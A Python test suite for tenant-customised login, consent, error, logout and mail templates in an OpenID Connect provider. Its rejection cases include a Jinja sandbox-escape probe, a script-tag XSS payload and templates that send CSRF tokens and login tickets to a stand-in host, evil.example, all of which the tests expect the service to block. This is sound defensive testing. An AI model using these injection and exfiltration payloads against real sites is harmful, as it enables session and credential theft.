"""Tenant page templates through the admin API, the CLI and the pages themselves: uploaded,
validated, versioned, shown in place of the built-in content inside our layout (CSP
unchanged), and costing no DynamoDB read for tenants without one."""

from __future__ import annotations

import json
import re

import pytest
from click.testing import CliRunner

from chalicelib.admin import tenants as tenant_admin
from chalicelib.admin.cli import cli
from chalicelib.store import tenants as tenant_store
from chalicelib.templating import MAILS, PAGES
from chalicelib.tenancy.resolve import forget
from tests.unit.conftest import PASSWORD
from tests.unit.flows import ISSUER, authorize, callback_params
from tests.unit.test_templating import CONSENT, ERROR, LOGIN, LOGOUT

HOST = "op.example.test"
GERMAN_WRONG_PASSWORD = "Falscher Benutzername oder falsches Passwort."
OURS = LOGIN.replace("<h1>", '<h1 id="ours">Welcome to Acme\'s own sign-in</h1><h1>')


@pytest.fixture
def mail(tenant):
    """The tenant sends from an address of a domain verified in (moto's) SES."""
    import boto3

    from tests.unit.test_mail import SENDER

    boto3.client("sesv2").create_email_identity(EmailIdentity="acme.example.com")
    tenant_admin.update_settings(tenant.id, {"mail_sender": SENDER})
    return tenant


@pytest.fixture
def key(tenant):
    return tenant_admin.issue_admin_key(tenant.id, "tests")[0]


def call(http, method: str, path: str, key: str, payload=None, headers=None):
    sent = {"host": HOST, "content-type": "application/json", "authorization": f"Bearer {key}", **(headers or {})}
    body = json.dumps(payload) if payload is not None else ""
    response = http.request(method, f"/admin/tenants/acme{path}", headers=sent, body=body)
    return response, (json.loads(response.body) if response.body else None)


def csp_shape(response) -> str:
    return re.sub(r"nonce-[A-Za-z0-9_-]+", "nonce-N", response.headers["Content-Security-Policy"])


def test_an_uploaded_login_page_is_shown_in_our_layout_and_signs_in(http, browser, key, client, user, table_items):
    before = browser.follow(authorize(browser, client[0].client_id))
    response, saved = call(http, "PUT", "/templates/login", key, {"source": OURS})
    assert response.status_code == 200 and response.headers["ETag"] == f'"{saved["version"]}"'
    assert saved == {"name": "login", "source": OURS, "version": saved["version"], "updated_at": saved["updated_at"]}
    stored = [item for item in table_items() if item["sk"]["S"] == "template#login"]
    assert len(stored) == 1 and stored[0]["source"]["S"] == OURS
    assert tenant_store.get_tenant("acme").templates == {"login": saved["version"]}

    page = browser.follow(authorize(browser, client[0].client_id))
    body = page.body.decode()
    assert page.status_code == 200 and "Welcome to Acme's own sign-in" in body
    assert csp_shape(page) == csp_shape(before)  # the CSP is the built-in page's
    nonce = re.search(r"nonce-([A-Za-z0-9_-]+)", page.headers["Content-Security-Policy"]).group(1)
    content = body[body.index('id="tenant-content"') :]
    assert nonce not in content  # our <style> in <head> carries it; the tenant's content never does
    assert body.index("<style nonce=") < body.index('id="tenant-content"')
    assert '<html lang="en">' in body and "Acme" in body[: body.index("<main>")]  # our head, our title
    answer = browser.follow(browser.submit(page, "login", username="alice", password=PASSWORD))
    if answer.status_code == 200:  # consent, built-in
        answer = browser.submit(answer, "allow")
    assert "code" in callback_params(answer)


def test_a_wrong_password_on_the_tenants_page_shows_its_error_translated(http, browser, key, client, user):
    call(http, "PUT", "/templates/login", key, {"source": OURS})
    browser.headers["accept-language"] = "de"
    page = browser.follow(authorize(browser, client[0].client_id))
    assert "Welcome to Acme" in page.body.decode() and "Anmelden" in page.body.decode()
    again = browser.submit(page, "login", username="alice", password="wrong password")
    text = again.body.decode()
    assert again.status_code == 401 and "Welcome to Acme" in text
    assert text.split('class="error" role="alert">')[1].startswith(GERMAN_WRONG_PASSWORD)


@pytest.mark.parametrize(
    ("page", "source", "marker"),
    [("consent", CONSENT.replace("<h1>", "<h1>Acme asks: "), "Acme asks: "),
     ("error", ERROR.replace("<h1>", "<h1>Acme trouble: "), "Acme trouble: ")],
)  # fmt: skip
def test_consent_and_error_pages_of_the_tenants_own(http, browser, key, client, user, page, source, marker):
    assert call(http, "PUT", f"/templates/{page}", key, {"source": source})[0].status_code == 200
    if page == "error":
        shown = browser.get(f"{ISSUER}/authorize", {"client_id": "nobody", "response_type": "code"})
        assert shown.status_code == 400 and marker in shown.body.decode() and "invalid_client" in shown.body.decode()
        return
    login = browser.follow(authorize(browser, client[0].client_id))
    consent = browser.follow(browser.submit(login, "login", username="alice", password=PASSWORD))
    assert consent.status_code == 200 and marker in consent.body.decode() and "1. " in consent.body.decode()
    assert "code" in callback_params(browser.submit(consent, "allow"))


# (payload, status, error description)
BAD_UPLOADS = [
    ({"source": "{{ ''.__class__.__mro__ }}"}, 400, "template error refused: line 1: attribute '__mro__' may only"),
    ({"source": "<p>\n{{ range(10**9) }}</p>"}, 400, "template error refused: line 2: only _(), gettext()"),
    ({"source": "<script>alert(1)</script>"}, 400, "template error refused: the element <script> is not allowed"),
    ({"source": "x" * 20000}, 400, "template error refused: a template is at most 16384 bytes"),
    ({"source": 7}, 400, "template error refused: a template is a non-empty string"),
    ({"source": "<p>", "extra": 1}, 400, "a template has no field extra"),
]  # fmt: skip


@pytest.mark.parametrize(("payload", "status", "description"), BAD_UPLOADS)
def test_a_refused_upload_is_a_400_saying_why_and_writes_nothing(http, key, table_items, payload, status, description):
    response, answer = call(http, "PUT", "/templates/error", key, payload)
    assert response.status_code == status and answer["error"] == "invalid_request"
    assert answer["error_description"].startswith(description), answer["error_description"]
    assert not [item for item in table_items() if item["sk"]["S"].startswith("template#")]
    assert tenant_store.get_tenant("acme").templates == {}


def test_versions_etags_if_match_listing_and_removal(http, key, table_items):
    _, first = call(http, "PUT", "/templates/error", key, {"source": ERROR})
    stale = f'"{first["version"]}"'
    response, second = call(http, "PUT", "/templates/error", key, {"source": ERROR + "<p>2</p>"}, {"if-match": stale})
    assert response.status_code == 200 and second["version"] == first["version"] + 1
    response, refused = call(http, "PUT", "/templates/error", key, {"source": ERROR}, {"if-match": stale})
    assert response.status_code == 412 and refused["error"] == "precondition_failed"
    assert call(http, "GET", "/templates/error", key)[1]["source"] == ERROR + "<p>2</p>"
    response, shown = call(http, "GET", "/templates/error", key)
    assert response.headers["ETag"] == f'"{second["version"]}"'
    _, listed = call(http, "GET", "/templates", key)
    summary = {"name": "error", "version": second["version"], "updated_at": shown["updated_at"], "size": len(ERROR) + 8}
    assert listed == {"templates": [summary], "pages": [*PAGES, *MAILS]}
    assert call(http, "DELETE", "/templates/error", key, headers={"if-match": stale})[0].status_code == 412
    assert call(http, "DELETE", "/templates/error", key)[0].status_code == 204
    assert call(http, "GET", "/templates/error", key)[0].status_code == 404
    assert call(http, "DELETE", "/templates/error", key)[0].status_code == 404
    assert call(http, "GET", "/templates/account", key)[0].status_code == 404
    assert call(http, "PUT", "/templates/error", key, {"source": ERROR}, {"if-match": '"1"'})[0].status_code == 412
    assert not [item for item in table_items() if item["sk"]["S"].startswith("template#")]
    assert tenant_store.get_tenant("acme").templates == {}


def test_a_template_change_keeps_a_concurrent_settings_change_and_the_other_way_round(http, key):
    """Both write the tenant's record, each conditional on its version: neither is lost."""
    tenant = tenant_store.get_tenant("acme", consistent=True)
    call(http, "PUT", "/templates/error", key, {"source": ERROR})
    # A settings write based on the record read before the template's: refused, then merged.
    assert tenant_store.save_tenant(tenant) is None
    call(http, "PATCH", "", key, {"settings": {"default_language": "de"}})
    stored = tenant_store.get_tenant("acme")
    assert stored.settings["default_language"] == "de" and set(stored.templates) == {"error"}


def test_another_tenants_key_cannot_reach_these_templates(http, key):
    tenant_admin.create_tenant("other", "Other")
    other = tenant_admin.issue_admin_key("other", "tests")[0]
    call(http, "PUT", "/templates/error", key, {"source": ERROR})
    assert call(http, "GET", "/templates/error", other)[0].status_code == 401
    assert call(http, "PUT", "/templates/error", other, {"source": ERROR})[0].status_code == 401
    assert tenant_store.get_tenant("other").templates == {}


def test_a_change_is_an_event(http, key, logged):
    _, saved = call(http, "PUT", "/templates/logout", key, {"source": LOGOUT})
    call(http, "DELETE", "/templates/logout", key)
    events = [entry for entry in map(json.loads, logged) if entry.get("event", "").startswith("template_")]
    assert [(e["event"], e["page"]) for e in events] == [("template_changed", "logout"), ("template_deleted", "logout")]
    assert events[0]["version"] == saved["version"] and events[0]["actor"].startswith("api-key:")


class Dispatched:
    """Counts the DynamoDB operations PynamoDB sends (every store read and write goes there)."""

    def __init__(self, monkeypatch):
        from pynamodb.connection.base import Connection

        self.operations: list[str] = []
        original = Connection.dispatch

        def counting(connection, operation_name, operation_kwargs, *args, **kwargs):
            self.operations.append(operation_name)
            return original(connection, operation_name, operation_kwargs, *args, **kwargs)

        monkeypatch.setattr(Connection, "dispatch", counting)


def test_the_login_page_costs_no_read_without_a_template_and_one_per_version_with_one(
    http, browser, key, client, monkeypatch
):
    dispatched = Dispatched(monkeypatch)
    forget()
    browser.follow(authorize(browser, client[0].client_id))  # warms the tenant and client caches
    counts = []
    for _ in range(2):
        dispatched.operations.clear()
        browser.follow(authorize(browser, client[0].client_id))
        counts.append(list(dispatched.operations))
    assert counts[0] == counts[1] == []  # authorize and the login page: tenant, client, ticket all in hand
    without = counts[0]

    call(http, "PUT", "/templates/login", key, {"source": OURS})
    forget()
    authorize(browser, client[0].client_id)  # the tenant (with its marker) and client read again; no page yet
    dispatched.operations.clear()
    first = browser.follow(authorize(browser, client[0].client_id))
    first_calls = list(dispatched.operations)
    dispatched.operations.clear()
    second = browser.follow(authorize(browser, client[0].client_id))
    assert "Welcome to Acme" in first.body.decode() and "Welcome to Acme" in second.body.decode()
    assert sorted(first_calls) == sorted([*without, "GetItem"])  # the template, once per container and version
    assert dispatched.operations == without


def run(*args: str, input: str | None = None):
    result = CliRunner().invoke(cli, list(args), input=input, catch_exceptions=False)
    return result.exit_code, result.output


def test_the_cli_puts_lists_shows_and_deletes(tenant, tmp_path):
    path = tmp_path / "login.html"
    path.write_text(OURS)
    code, output = run("templates", "put", "acme", "login", str(path))
    saved = json.loads(output)
    version = saved["version"]
    assert code == 0 and saved == {
        "name": "login",
        "version": version,
        "updated_at": saved["updated_at"],
        "size": len(OURS),
    }
    assert run("templates", "show", "acme", "login") == (0, OURS)
    assert [entry["name"] for entry in json.loads(run("templates", "list", "acme")[1])] == ["login"]
    code, output = run("templates", "put", "acme", "error", "-", input="{{ ''.__class__ }}")
    assert code == 2
    code, output = run("templates", "put", "acme", "login", "-", "--if-version", str(version - 1), input=OURS)
    assert code == 2
    assert run("templates", "delete", "acme", "login")[0] == 0
    assert json.loads(run("templates", "list", "acme")[1]) == []
    assert tenant_store.get_tenant("acme").templates == {}


MAIL_RESET = """Subject: {{ tenant }} & you: a new password
Hello {{ username }},

follow {{ link }} within {{ minutes }} minutes to choose a new password.

-- The {{ tenant }} team"""


def test_a_tenants_own_reset_mail_is_sent_with_a_link_that_works(http, key, mail, user, consumer):
    from tests.support.browser import Browser
    from tests.unit.test_mail import NEW_PASSWORD, forgot, link_of, sent

    response, saved = call(http, "PUT", "/templates/mail_reset", key, {"source": MAIL_RESET})
    assert response.status_code == 200 and saved["name"] == "mail_reset"
    refused, answer = call(http, "PUT", "/templates/mail_verify", key, {"source": "Subject: hi\nno link here"})
    assert refused.status_code == 400 and "must carry {{ link }}" in answer["error_description"]
    browser = Browser(http)
    forgot(browser, "alice")
    assert consumer.drain() == 1
    [message] = sent()
    assert message.subject == "Acme & you: a new password"  # text: nothing escaped
    assert message.body.startswith("Hello alice,\n\nfollow http://op.example.test/acme/password/reset?token=")
    assert message.body.endswith("within 15 minutes to choose a new password.\n\n-- The Acme team\n")
    landing = browser.get(link_of(message)[0])
    done = browser.submit(landing, password=NEW_PASSWORD, confirm=NEW_PASSWORD)
    assert done.status_code == 200 and "Password changed" in done.body.decode()


def test_the_built_in_page_is_shown_when_the_stored_template_fails_at_render(http, browser, client, user):
    """Written behind validation's back (as a stored template from an older, laxer check
    would be): the render fails on the real data, and the person gets the built-in page."""
    from chalicelib.store import templates as template_store

    stored = tenant_store.get_tenant("acme", consistent=True)
    assert template_store.save_template(stored, "login", "<p>{{ client.name.nope }}</p>", 1, None) is not None
    forget()
    page = browser.follow(authorize(browser, client[0].client_id))
    assert page.status_code == 200 and 'id="tenant-content"' not in page.body.decode()
    assert 'id="username"' in page.body.decode()  # ours


@pytest.mark.parametrize(
    ("content", "shown"),
    [
        ("<img src='https://evil.example/?{{ form_fields }}'>", False),  # refused: the built-in page
        ("<a href='https://evil.example/?", False),  # a quote left open to swallow the page
        ('<img src="https://evil.example/?{{ form_fields|urlencode }}">', True),  # shown: the placeholder only
    ],
)
def test_a_stored_template_never_gets_the_hidden_fields_values_outside_a_tag_of_their_own(
    http, browser, client, user, content, shown
):
    """Written behind validation's back: a template never holds the hidden fields' values (CSRF
    token, login ticket), only a placeholder that becomes them where it stands as a tag of its
    own; one that puts it in an attribute is not shown (the built-in page is). Either way no URL
    to elsewhere carries the values, and the person signs in."""
    from chalicelib.store import templates as template_store

    stored = tenant_store.get_tenant("acme", consistent=True)
    assert template_store.save_template(stored, "login", LOGIN + content, 1, None) is not None
    forget()
    page = browser.follow(authorize(browser, client[0].client_id))
    body = page.body.decode()
    assert page.status_code == 200 and ('id="tenant-content"' in body) == shown
    for name in ("csrf_token", "ticket"):
        value = re.search(f'<input type="hidden" name="{name}" value="([^"]+)">', body).group(1)
        assert len(value) >= 20 and all(value not in url for url in re.findall("evil\\.example[^\"']*", body))
    assert ("evil.example" in body) == shown
    assert browser.submit(page, "login", username="alice", password=PASSWORD).status_code == 302


def test_the_tenants_page_gets_the_real_hidden_fields_in_place_of_the_placeholder(http, browser, key, client, user):
    from chalicelib.templating.markup import FIELDS_PLACEHOLDER

    assert call(http, "PUT", "/templates/login", key, {"source": OURS})[0].status_code == 200
    page = browser.follow(authorize(browser, client[0].client_id))
    body = page.body.decode()
    assert 'id="ours"' in body and FIELDS_PLACEHOLDER not in body
    assert re.search(r'<input type="hidden" name="ticket" value="[^"]{20,}">', body)


def test_the_tenants_login_page_words_the_abuse_limits_as_the_built_in_page(http, key, client, user, clock):
    """The same attempts against the built-in and the tenant's page: the same statuses and
    messages, the back-off's "Try again in N minutes" included (tests/unit/test_limits.py)."""
    from tests.unit.test_limits import WINDOW, guesses

    start = clock[0]
    built_in = guesses(http, client[0].client_id, "alice", clock)
    assert call(http, "PUT", "/templates/login", key, {"source": OURS})[0].status_code == 200
    clock[0] = start + 2 * WINDOW  # the same point of a later window
    own = guesses(http, client[0].client_id, "alice", clock)
    assert own == built_in and own[-1] == (429, "Too many attempts. Try again in 9 minutes.")
    page = browser_login_attempt(http, client[0].client_id)
    assert page.status_code == 429 and "Welcome to Acme's own sign-in" in page.body.decode()  # the tenant's page


def browser_login_attempt(http, client_id: str):
    from tests.support.browser import Browser

    browser = Browser(http)
    page = browser.follow(authorize(browser, client_id, prompt="login"))
    return browser.submit(page, "login", username="alice", password="wrong password")


def test_a_tenants_logout_page_asks_and_signs_out(http, browser, key, client, user, table_items):
    own = LOGOUT.replace("<h1>", "<h1>Leaving Acme? ")
    assert call(http, "PUT", "/templates/logout", key, {"source": own})[0].status_code == 200
    consent = browser.follow(browser.submit(browser.follow(authorize(browser, client[0].client_id)), "login",
                                            username="alice", password=PASSWORD))  # fmt: skip
    callback_params(browser.submit(consent, "allow"))
    assert [item for item in table_items() if item["sk"]["S"].startswith("session#")]
    page = browser.get(f"{ISSUER}/end-session", {"client_id": client[0].client_id})
    text = page.body.decode()
    assert page.status_code == 200 and "Leaving Acme? Sign out?" in text and "<p>Acme Web</p>" in text
    done = browser.submit(page, "logout")
    assert done.status_code == 200 and b"You are signed out" in done.body  # the signed-out page: ours
    assert not [item for item in table_items() if item["sk"]["S"].startswith("session#")]
